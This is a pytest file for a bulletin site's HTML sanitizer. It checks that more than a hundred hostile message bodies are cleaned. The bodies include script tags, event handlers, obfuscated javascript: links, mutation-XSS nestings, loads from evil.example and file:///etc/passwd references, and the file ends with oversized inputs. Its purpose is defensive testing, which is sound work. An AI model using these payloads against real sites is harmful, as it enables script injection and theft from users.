"""Bodies sent by an attacker: no script, no dress, no foreign address, and no lost text."""

import pytest

from bulletins import richtext
from tests.bodies import sound, words

# What is sent, and what a reader must still find of it (without blanks).
HOSTILE = [
    # Scripts, in every spelling
    ("甲<script>alert(1)</script>乙", "甲乙"),
    ("甲<SCRIPT SRC=//evil.example/x.js></SCRIPT>乙", "甲乙"),
    ("甲<script\n>alert(1)</script\n>乙", "甲乙"),
    ("甲<script/x>alert(1)</script/>乙", "甲乙"),
    ("甲<scr\x00ipt>alert(1)</scr\x00ipt>乙", "甲乙"),
    ("甲<scr<script>ipt>alert(1)</script>", "甲ipt>alert(1)"),
    ("甲<script>alert('</scripty>')</script>乙", "甲乙"),
    ("甲<script>alert(1)", "甲"),
    ("甲</script>乙", "甲乙"),
    ("甲<<script>alert(1)//<</script>乙", "甲<乙"),
    ("甲<\u200bscript>alert(1)</script>乙", "甲乙"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    ("&#60;script&#62;甲", "<script>甲"),
    ("&amp;lt;script&amp;gt;", "&lt;script&gt;"),
    # Handlers
    ("<p onclick=alert(1)>甲</p>", "甲"),
    ("<img src=x onerror=alert(1)>甲", "甲"),
    ('<img src="/pictures/1/" onerror="alert(1)">甲', "甲"),
    ("<img/src='x'/onerror=alert(1)>甲", "甲"),
    ("<svg onload=alert(1)>甲</svg>", "甲"),
    ("<svg/onload=alert(1)//甲", ""),
    ("<body onload=alert(1)>甲", "甲"),
    ("<details open ontoggle=alert(1)>甲</details>", "甲"),
    ("<b onmouseover\n=\nalert(1)>甲</b>", "甲"),
    ("<a href=http://a.example/ onclick=alert(1)>甲</a>", "甲"),
    ("<video><source onerror=alert(1)></video>甲", "甲"),
    ("<marquee onstart=alert(1)>甲</marquee>", "甲"),
    ("<td onclick=alert(1) colspan=2>甲", "甲"),
    # Addresses
    ("<a href=javascript:alert(1)>甲</a>", "甲"),
    ("<a href=JaVaScRiPt:alert(1)>甲</a>", "甲"),
    ("<a href='java\tscript:alert(1)'>甲</a>", "甲"),
    ("<a href='java\nscript:alert(1)'>甲</a>", "甲"),
    ("<a href='java&#9;script:alert(1)'>甲</a>", "甲"),
    ("<a href='java&NewLine;script:alert(1)'>甲</a>", "甲"),
    ("<a href='&#106;avascript:alert(1)'>甲</a>", "甲"),
    ("<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>甲</a>", "甲"),
    ("<a href='&#0000106avascript:alert(1)'>甲</a>", "甲"),
    ("<a href='javascript&colon;alert(1)'>甲</a>", "甲"),
    ("<a href='\x01javascript:alert(1)'>甲</a>", "甲"),
    ("<a href='java\x00script:alert(1)'>甲</a>", "甲"),
    ("<a href=' javascript:alert(1)'>甲</a>", "甲"),
    ("<a href='&#8232;javascript:alert(1)'>甲</a>", "甲"),
    ("<a href='vbscript:x'>甲</a>", "甲"),
    ("<a href='data:text/html,<script>alert(1)</script>'>甲</a>", "甲"),
    ("<a href='data:text/html;base64,PHNjcmlwdD4='>甲</a>", "甲"),
    ("<a href='file:///etc/passwd'>甲</a>", "甲"),
    ("<a href='//evil.example/'>甲</a>", "甲"),
    ("<a href='\\\\evil.example\\x'>甲</a>", "甲"),
    ("<a href='/\\evil.example'>甲</a>", "甲"),
    ("<a href='/logout/'>甲</a>", "甲"),
    ("<a href='#top'>甲</a>", "甲"),
    ("<a href='https:evil.example'>甲</a>", "甲"),
    ("<a href='http://'>甲</a>", "甲"),
    ("<a href='http://[::'>甲</a>", "甲"),
    ("<a href='http://1.2.3.4.5/'>甲</a>", "甲"),
    ("<a href='http://a.example:99999/'>甲</a>", "甲"),
    ("<a href='http://a.example/\u202egpj.exe'>甲</a>", "甲"),
    ("<a href='http://a.example/\" onclick=\"alert(1)'>甲</a>", "甲"),
    ("<a href=http://a.example/><a href=javascript:x>甲</a></a>", "甲"),
    ("<a xlink:href=javascript:alert(1)>甲</a>", "甲"),
    ("<a href=http://a.example/ ping=//evil.example target=_blank rel=opener>甲</a>", "甲"),
    # Foreign pictures
    ("<img src=https://evil.example/p.gif>甲", "甲"),
    ("<img src=//evil.example/p.gif>甲", "甲"),
    ("<img src=/pictures/1/../2/>甲", "甲"),
    ("<img src='/pictures/1/?x'>甲", "甲"),
    ("<img src='/pictures/一/'>甲", "甲"),
    ("<img src='/pictures/\u0661/'>甲", "甲"),
    ("<img src='http://a.example/pictures/1/'>甲", "甲"),
    ("<img src='data:image/png;base64,AAAA'>甲", "甲"),
    ("<img src='file:///C:/a.png'>甲", "甲"),
    ("<img srcset='//evil.example/x 2x'>甲", "甲"),
    ("<img src='/pictures/1/' srcset='//evil.example/x 2x' style='position:fixed'>甲", "甲"),
    ("<picture><source srcset=//evil.example/x><img src=//evil.example/y></picture>甲", "甲"),
    ("<input type=image src=//evil.example/x>甲", "甲"),
    ("<table background=//evil.example/x><tr><td background=//evil.example/y>甲</table>", "甲"),
    ("<video poster=//evil.example/x>甲</video>", "甲"),
    ("<object data=//evil.example/x>甲</object>", "甲"),
    ("<embed src=//evil.example/x>甲", "甲"),
    ("<link rel=stylesheet href=//evil.example/x>甲", "甲"),
    ("<link rel=attachment href=file:///etc/passwd>甲", "甲"),
    ("<a rel=attachment href=file:///etc/passwd>甲</a>", "甲"),
    # Dress that covers or imitates our pages
    ("<p style='position:fixed;top:0;left:0;width:100%;height:100%'>甲</p>", "甲"),
    ("<p style='background:url(//evil.example/x)'>甲</p>", "甲"),
    ("<p class='actions-fixed button-primary' id=main>甲</p>", "甲"),
    ("<p id=csrfmiddlewaretoken name=csrfmiddlewaretoken>甲</p>", "甲"),
    ("<style>*{display:none}</style>甲", "甲"),
    ("<style>@import '//evil.example/x'", ""),
    ("<font color=white size=99>甲</font>", "甲"),
    ("<form action=//evil.example><input name=a><button formaction=x>甲</button></form>", "甲"),
    ("<base href=//evil.example/>甲", "甲"),
    ("<meta http-equiv=refresh content='0;url=//evil.example'>甲", "甲"),
    ("<iframe src=//evil.example>乙</iframe>甲", "甲"),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>甲", "甲"),
    ("<frameset><frame src=//evil.example></frameset>甲", "甲"),
    ("<title>乙</title>甲", "甲"),
    ("<html><head><base href=//evil.example></head><body>甲</body></html>", "甲"),
    ("<textarea>甲</textarea>乙", "甲乙"),
    ("<select><option>甲<option>乙</select>", "甲乙"),
    ("<dialog open>甲</dialog>", "甲"),
    ("<slot name=x>甲</slot><x-y is=z>乙</x-y>", "甲乙"),
    # Nestings that change when a browser reads them a second time
    ("<svg><style><img src=x onerror=alert(1)></style></svg>甲", "甲"),
    ("<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>甲", "'>甲"),
    ("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
     "onerror=alert(1)&gt;'>甲", "甲"),
    ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>甲", ""),
    ("<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>甲", "甲"),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>甲", "'>甲"),
    ("<template><img src=x onerror=alert(1)></template>甲", "甲"),
    ("<template>乙<template>丙</template>丁</template>甲", "甲"),
    ("<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>甲", "'>甲"),
    ("<xmp><p title='</xmp><img src=x onerror=alert(1)>'>甲</p></xmp>", "甲"),
    ("<plaintext><img src=x onerror=alert(1)>甲", "甲"),
    ("<!--><img src=x onerror=alert(1)>-->甲", "-->甲"),
    ("<!--!><img src=x onerror=alert(1)>-->甲", "甲"),
    ("<!-- --!><img src=x onerror=alert(1)>甲", "甲"),
    ("<!-- 乙", ""),
    ("<![CDATA[<img src=x onerror=alert(1)>]]>甲", "]]>甲"),
    ("<?xml-stylesheet href=//evil.example?>甲", "甲"),
    ("<!ENTITY a SYSTEM 'file:///etc/passwd'>&a;甲", "&a;甲"),
    ("<p title='<img src=x onerror=alert(1)>'>甲</p>", "甲"),
    ("<p title='>甲' <b>乙</b>", "乙"),
    ("<b title=\"a'b>c\" class='x\">y'>甲</b>", "甲"),
    ("<table><form><tr><td><b><table><tr></b><td>甲</table>乙</table>丙", "甲乙丙"),
    ("<p><svg><foreignObject><p>甲</foreignObject></svg>乙", "甲乙"),
    # Characters that cannot be seen
    ("甲\x00乙\x08\x1b\x7f丙", "甲乙丙"),
    ("甲\u202e乙\u202c\u2066丙\u2069\u200f", "甲乙丙"),
    ("甲&#x202E;乙&#8238;丙&rlm;", "甲乙丙"),
    ("甲\u200b\ufeff\u2060\u00ad乙", "甲乙"),
    ("甲&ZeroWidthSpace;&shy;&#xFEFF;乙", "甲乙"),
    ("甲\U000e0041\U000e007f乙", "甲乙"),
    ("甲\ud800乙\ufffe", "甲乙"),
    ("甲&#0;乙", "甲\ufffd乙"),
    ("甲&#" + "9" * 6000 + ";乙", "甲\ufffd乙"),
    ("甲&#x" + "0" * 6000 + "41;乙", "甲\ufffd乙"),
    # Cut off, or not markup at all
    ("甲<b", "甲"),
    ("甲<a href='http://a.example/", "甲"),
    ("3<5，5>3，a&b，<>，< b>", "3<5，5>3，a&b，<>，<b>"),
    ("甲</>乙</ b>丙", "甲乙丙"),
    ("<p =\"甲\">乙</p>", "乙"),
]  # fmt: skip

# The instructive ones: exactly what is stored.
EXACT = [
    ("<p onclick=x>甲<script>y</script>乙</p>", "<p>甲乙</p>"),
    ("<b>甲</b><i>乙</i><div>丙</div>丁",
     "<p><strong>甲</strong><em>乙</em></p><p>丙</p><p>丁</p>"),
    ("<a href=' HTTPS://a.example/?x=1&copy=2 '>甲</a>",
     '<p><a href="https://a.example/?x=1&amp;copy=2">甲</a></p>'),
    ("<a href='mailto:a@b.example'>甲</a>", '<p><a href="mailto:a@b.example">甲</a></p>'),
    ("<a href=javascript:x>甲</a>乙", "<p>甲乙</p>"),
    ("<a href='http://1.2.3.4.5/'>甲</a>乙", "<p>甲乙</p>"),
    ("<a href=http://a.example/>甲<a href=http://b.example/>乙</a>丙</a>",
     '<p><a href="http://a.example/">甲</a><a href="http://b.example/">乙</a>丙</p>'),
    ("甲<img src=/pictures/7/ alt='图 \"一\"' onerror=x>乙",
     '<p>甲</p><figure><img src="/pictures/7/" alt="图 &quot;一&quot;"></figure><p>乙</p>'),
    ("甲<img src=//evil.example/x>乙", "<p>甲</p><p>乙</p>"),
    ("<td colspan=3 onclick=x>甲", "<p>甲</p>"),
    ("<table><td colspan=3 rowspan=999 onclick=x>甲",
     '<table><tbody><tr><td colspan="3"><p>甲</p></td></tr></tbody></table>'),
    ("3<5 & \"4\">3", '<p>3&lt;5 &amp; "4"&gt;3</p>'),
    ("&lt;b&gt;甲&amp;lt;", "<p>&lt;b&gt;甲&amp;lt;</p>"),
    ("<b>甲<i>乙</b>丙</i>丁",
     "<p><strong>甲<em>乙</em></strong><em>丙</em>丁</p>"),
    ("<p>甲<p>乙", "<p>甲</p><p>乙</p>"),
    ("甲</p>乙", "<p>甲</p><p>乙</p>"),
    ("甲</br>乙<hr>丙", "<p>甲<br>乙</p><p>丙</p>"),
    ("<strong><p>甲</p></strong>", "<p>甲</p>"),
    ("<h1><p>甲</p><p>乙</p></h1>丙", "<h4>甲<br>乙</h4><p>丙</p>"),
    ("<svg><style><img src=x onerror=alert(1)></style>甲</svg>", "<p>甲</p>"),
    ("<p style=x class=y id=z name=w dir=rtl lang=en title=t>甲</p>", "<p>甲</p>"),
]  # fmt: skip


@pytest.mark.parametrize(("sent", "text"), HOSTILE)
def test_hostile_body_keeps_its_text_and_nothing_else(sent, text):
    assert words(sound(sent)) == text


@pytest.mark.parametrize(("sent", "stored"), EXACT)
def test_hostile_body_is_stored_exactly_so(sent, stored):
    assert sound(sent) == stored


@pytest.mark.parametrize("sent", [sent for sent, _text in HOSTILE])
def test_hostile_body_inside_other_elements_stays_harmless(sent):
    for frame in ("<ul><li>%s</ul>", "<table><tr><td>%s</table>", "<b>%s</b>", "<p title='%s'>x"):
        sound(frame.replace("%s", sent))


def test_hostile_table_covers_at_least_a_hundred_ways():
    assert len({sent for sent, _text in HOSTILE}) >= 100


def test_pictures_of_other_articles_go_their_captions_stay():
    sent = (
        "<figure><img src='/pictures/1/'><figcaption>甲</figcaption></figure>"
        "<figure><img src='/pictures/2/'><figcaption>乙</figcaption></figure>"
    )
    assert sound(sent, {1}) == (
        '<figure><img src="/pictures/1/" alt=""><figcaption>甲</figcaption></figure><p>乙</p>'
    )
    assert sound(sent, set()) == "<p>甲</p><p>乙</p>"


# Whatever is repeated without end is refused or done with in one pass; a step
# that looked back over what was read before would make this test hang.
ENDLESS = [
    "<b class=x></i>", "<span><blockquote></span></blockquote>", "<b><table><tr><td></b></table>",
    "<a ", '<a "', '<a ="', "<!--", "<!", "<", "&", "&#", "&#x", "&amp", "<script>", "<del>",
    "a<x>", "<p>", "<br>", "<ul>", "<td>x", "<table>", "<i style='display:none'>", "　", " \t",
    "\nx", "<blockquote>", "<a href='>\"", "<b><i></b>x</i>", "<figure><figcaption>",
]  # fmt: skip


@pytest.mark.parametrize("part", ENDLESS)
def test_endless_body_is_refused_or_done(part):
    try:
        body = richtext.clean((part * 300_000)[:300_000])
    except richtext.TooMuch:
        return
    assert richtext.clean(body) == body


@pytest.mark.parametrize(
    ("sent", "sentence"),
    [
        ("x" * 1_000_001, "too long"),
        ("<ul><li>" * 21 + "x", "too deeply nested"),
        ("<b>" * 21 + "x", "too deeply nested"),
        ("<b>x</b>" * 30_001, "too many tags"),
        ("<" * 500_000, "too long"),  # each is written as &lt;
    ],
)
def test_body_beyond_a_limit_is_refused(sent, sentence):
    with pytest.raises(richtext.TooMuch, match=sentence):
        richtext.clean(sent)


def test_body_at_the_limits_is_kept():
    nested = "<ul><li>" * 20 + "甲" + "</li></ul>" * 20
    assert words(sound(nested)) == "甲"
    assert words(sound("<b>" * 20 + "甲" + "</b>" * 20)) == "甲"
    assert len(richtext.clean("字" * 999_993)) == 1_000_000
    assert words(sound("<div>" * 400 + "甲" + "</div>" * 400)) == "甲"
